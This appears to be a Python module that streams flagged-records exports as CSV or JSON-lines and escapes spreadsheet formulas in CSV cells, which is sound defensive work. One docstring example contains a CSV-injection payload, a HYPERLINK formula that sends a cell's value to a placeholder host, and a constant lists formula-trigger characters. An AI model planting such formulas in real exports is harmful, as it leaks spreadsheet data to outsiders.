"""CSV and JSON-lines exports of a flagged-records query, streamed page by page: memory stays
flat however many rows match, and each page is its own short transaction. CSV cells are made
safe to open in a spreadsheet (OWASP's CSV-injection recipe): record text cannot become a
formula."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from typing import Any, Literal

from sqlalchemy.orm import Session, sessionmaker

from api.schemas import FlaggedSummaryOut
from storage.queries import FlaggedFilter, FlaggedSummary, Ordering, page_flagged

ExportFormat = Literal["csv", "jsonl"]
MEDIA_TYPES: dict[ExportFormat, str] = {
    "csv": "text/csv; charset=utf-8",
    "jsonl": "application/x-ndjson",
}
CSV_COLUMNS = tuple(FlaggedSummaryOut.model_fields)
# Numbers, served as JSON numbers or "Infinity"/"-Infinity" (which a spreadsheet reads as text).
NUMBER_COLUMNS = frozenset(
    name for name, info in FlaggedSummaryOut.model_fields.items() if info.annotation in (int, float)
)
# A cell starting with one of these is read as a formula by Excel, LibreOffice or Sheets.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def export_lines(
    session_factory: sessionmaker[Session],
    flt: FlaggedFilter,
    order: Ordering,
    export_format: ExportFormat,
    *,
    cursor: str | None,
    max_rows: int,
    chunk_size: int,
) -> Iterator[str]:
    """The export's text, a page at a time: the same records, in the same order, as paging
    the JSON API from ``cursor`` would give, up to ``max_rows``."""
    if export_format == "csv":
        yield _csv_line(CSV_COLUMNS)
    sent = 0
    while sent < max_rows:
        with session_factory() as session:
            page = page_flagged(
                session, flt, order, limit=min(chunk_size, max_rows - sent), cursor=cursor
            )
        lines = (_format(record, export_format) for record in page.records)
        yield "".join(lines)
        sent += len(page.records)
        if page.next_cursor is None:
            return
        cursor = page.next_cursor


def _format(record: FlaggedSummary, export_format: ExportFormat) -> str:
    out = FlaggedSummaryOut.model_validate(record)
    if export_format == "jsonl":
        return out.model_dump_json() + "\n"
    values = out.model_dump(mode="json")
    return _csv_line(_cell(values[name], name in NUMBER_COLUMNS) for name in CSV_COLUMNS)


def _cell(value: Any, number: bool) -> Any:
    """Nested values (the explanation) as compact JSON text in one cell; text neutralised."""
    if isinstance(value, dict | list):
        return json.dumps(value, separators=(",", ":"), ensure_ascii=False)
    if value is None:
        return ""
    return value if number else neutralise(str(value))


def neutralise(text: str) -> str:
    r"""Text a spreadsheet shows as text: one starting like a formula gets a leading ``'``
    (which spreadsheets hide), as OWASP recommends for CSV exports.

    >>> neutralise('=HYPERLINK("http://x/?"&A1,"click")')
    '\'=HYPERLINK("http://x/?"&A1,"click")'
    >>> neutralise("payments")
    'payments'
    """
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _csv_line(values: Any) -> str:
    # Every text cell quoted too (the other half of OWASP's recipe), numbers bare.
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC).writerow(values)
    return buffer.getvalue()
